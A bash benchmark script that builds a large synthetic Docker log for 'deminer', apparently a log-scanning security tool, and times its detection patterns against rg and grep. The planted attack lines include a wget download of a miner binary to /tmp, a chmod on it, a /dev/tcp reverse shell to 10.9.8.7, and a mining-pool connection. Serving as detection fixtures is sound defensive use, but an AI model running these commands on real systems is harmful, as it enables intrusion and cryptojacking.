#!/usr/bin/env bash
# deminer's log benchmark: a 1 GiB Docker json-file log, generated here once
# (ordinary Next.js / nginx-style lines with a few hundred attack lines
# planted among them), searched with the log rules' patterns:
#
#   deminer (shared)   the patterns grep -E and rg read as deminer does
#                      (`deminer rules log-patterns --portable`), as one log
#                      rule, on the log: deminer scan --only logs ... LOG
#   rg                 rg -c --no-unicode -f PATTERNS LOG (ASCII \b \w \s, as
#                      deminer's patterns are; with Unicode classes rg 13 took
#                      108 s on 128 MiB of this log)
#   grep               LC_ALL=C grep -E -c -f PATTERNS LOG
#
# The peers write their count to a file: GNU grep stops at the first match
# when its output is /dev/null, which is where hyperfine sends it.
#   deminer (default)  the whole default rule set (all patterns, caseless
#                      ones too), same log
#
# The shared-pattern runs must count the same matching lines; the script
# checks it. Target: deminer's throughput at least rg's. BENCH_RUNS (5) sets
# hyperfine's measured runs; BENCH_LOG_MIB (1024) the log's size.
set -euo pipefail
cd "$(dirname "$0")/.."
runs=${BENCH_RUNS:-5}
mib=${BENCH_LOG_MIB:-1024}
out=bench/out/logs
mkdir -p "$out/empty-root" "$out/rules"
deminer=build/deminer
for tool in hyperfine rg grep python3; do
  command -v "$tool" >/dev/null || { echo "bench logs: $tool missing (scripts/deps.sh --bench)" >&2; exit 2; }
done
[[ -x $deminer ]] || { echo "bench logs: build deminer first (make build)" >&2; exit 2; }

id=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
log=$out/$id-json.log
if [[ ! -f $log.done-$mib ]]; then
  echo "bench logs: writing a $mib MiB Docker json-file log to $log"
  rm -f "$log" "$log".done-*
  /usr/bin/python3 - "$log" "$mib" <<'PY'
import random, sys
path, mib = sys.argv[1], int(sys.argv[2])
rnd = random.Random(20261122)
routes = ["/", "/api/products", "/api/cart", "/login", "/_next/static/chunks/app.js",
          "/api/orders/%d", "/farm/%d/crops", "/images/p%d.webp", "/api/users/%d/profile"]
templates = [
    " GET {route} 200 in {ms}ms",
    " POST {route} 201 in {ms}ms",
    "   \u25b2 Next.js 15.1.0 - Local: http://localhost:3000",
    " \u2713 Compiled {route} in {ms}ms ({n} modules)",
    "[info] request id={hex} user={n} route={route} took {ms}ms",
    "[warn] slow query {ms}ms: SELECT * FROM orders WHERE user_id = {n} LIMIT 20",
    "TypeError: Cannot read properties of undefined (reading 'price') {{ digest: '{n}' }}",
    "    at ProductCard (/app/.next/server/chunks/{n}.js:1:{ms})",
    "[cache] revalidated {route} tags=products,{n}",
    "fetch {route} -> 304 ({ms} ms) etag={hex}",
]
attacks = [
    "/bin/sh: /tmp/dbus_daemon: Permission denied",
    "saving to '/tmp/javae'",
    "Connecting to accrochezvous.fr (51.91.236.255:443)",
    "Error: Command failed: command -v curl",
    "Error: Command failed: ps aux | grep dbus_daemon | grep -v grep",
    "sh -c wget -q http://10.9.8.7/k -O /tmp/kdevtmpfsi",
    "chmod +x /tmp/kdevtmpfsi",
    "bash -i >/dev/tcp/10.9.8.7/4444 0>/dev/null",
    "[2026-11-22 21:03:01.123]  net      new job from pool.supportxmr.com:443 diff 120001",
]
def line(msg, t):
    msg = msg.replace("\\", "\\\\").replace('"', '\\"')
    return '{"log":"%s\\n","stream":"stdout","time":"2026-11-22T%02d:%02d:%02d.%09dZ"}\n' % (
        msg, t // 3600 % 24, t // 60 % 60, t % 60, rnd.randrange(10**9))
target = mib << 20
planted = 300
written, lines, t = 0, 0, 0
next_attack = target // planted // 2
with open(path, "w", encoding="utf-8") as f:
    buf = []
    while written < target:
        tmpl = rnd.choice(templates)
        route = rnd.choice(routes)
        if "%d" in route:
            route = route % rnd.randrange(1, 99999)
        msg = tmpl.format(route=route, ms=rnd.randrange(1, 2500), n=rnd.randrange(1, 10**6),
                          hex="%08x" % rnd.getrandbits(32))
        if written >= next_attack and planted > 0:
            msg = attacks[planted % len(attacks)]
            planted -= 1
            next_attack += target // 300
        s = line(msg, t)
        t += rnd.randrange(0, 2)
        buf.append(s)
        written += len(s.encode("utf-8"))
        lines += 1
        if len(buf) >= 10000:
            f.write("".join(buf))
            buf = []
    f.write("".join(buf))
print(f"bench logs: {lines} lines, {written / 1048576:.0f} MiB, {300 - planted} attack lines planted")
PY
  touch "$log.done-$mib"
fi

# The shared patterns, and the same patterns as one deminer log rule.
$deminer rules log-patterns --portable >"$out/patterns.txt"
/usr/bin/python3 - "$out/patterns.txt" "$out/rules/logs.yaml" <<'PY'
import sys
pats = [p for p in open(sys.argv[1]).read().splitlines() if p]
with open(sys.argv[2], "w") as f:
    f.write("log_rules:\n  - source: \"bench/logs.sh: the portable patterns of the default log rules\"\n")
    f.write("    entries:\n      - id: shared\n        title: \"shared patterns\"\n        severity: high\n")
    f.write("        logs: [any]\n        patterns:\n")
    for p in pats:
        f.write("          - '%s'\n" % p.replace("'", "''"))
PY
npat=$(wc -l <"$out/patterns.txt")
bytes=$(stat -c %s "$log")

# Hit counts: matching lines, each tool on the same file and patterns.
shared=($deminer scan --only logs --root "$out/empty-root" --no-default-rules --rules "$out/rules"
        --format json --fail-on none "$log")
deminer_hits=$("${shared[@]}" | /usr/bin/python3 -c '
import json, sys
d = json.load(sys.stdin)
print(sum(f["evidence"]["count"] for f in d["findings"] if f["check"] == "log.match"))')
rg_hits=$(rg -c --no-unicode -f "$out/patterns.txt" "$log" || true)
grep_hits=$(LC_ALL=C grep -E -c -f "$out/patterns.txt" "$log" || true)
echo "bench logs: $log: $(awk -v b="$bytes" 'BEGIN {printf "%.0f MiB", b / 1048576}'), $npat shared patterns"
echo "bench logs: matching lines: deminer $deminer_hits, rg $rg_hits, grep -E $grep_hits"
if [[ $deminer_hits != "$rg_hits" || $deminer_hits != "$grep_hits" ]]; then
  echo "bench logs: hit counts differ" >&2
  exit 1
fi

# Warm the page cache, then time.
cat "$log" >/dev/null
default_cmd="$deminer scan --only logs --root $out/empty-root --format json -o /dev/null --fail-on none $log"
hyperfine --style basic --warmup 1 --runs "$runs" --export-json "$out/logs.json" \
  -n "deminer (shared)" "${shared[*]} -o /dev/null" \
  -n "rg" "rg -c --no-unicode -f $out/patterns.txt $log >$out/rg.count" \
  -n "grep" "LC_ALL=C grep -E -c -f $out/patterns.txt $log >$out/grep.count" \
  -n "deminer (default rules)" "$default_cmd" \
  -i >"$out/logs.txt"

/usr/bin/python3 - "$out/logs.json" "$bytes" <<'PY'
import json, sys
r = {x["command"]: x for x in json.load(open(sys.argv[1]))["results"]}
gib = int(sys.argv[2]) / 2**30
for name in ["deminer (shared)", "rg", "grep", "deminer (default rules)"]:
    x = r[name]
    print(f"  {name:24} median {x['median'] * 1000:8.1f} ms  (min {x['min'] * 1000:.1f}, "
          f"max {x['max'] * 1000:.1f})  {gib / x['median']:.2f} GiB/s")
ratio = r["deminer (shared)"]["median"] / r["rg"]["median"]
print(f"  ratio deminer / rg (time, shared patterns) = {ratio:.2f}")
print(f"  ratio deminer / grep -E                    = "
      f"{r['deminer (shared)']['median'] / r['grep']['median']:.2f}")
print(f"  target: deminer throughput >= rg -> {'met' if ratio <= 1.0 else 'NOT met'}")
PY
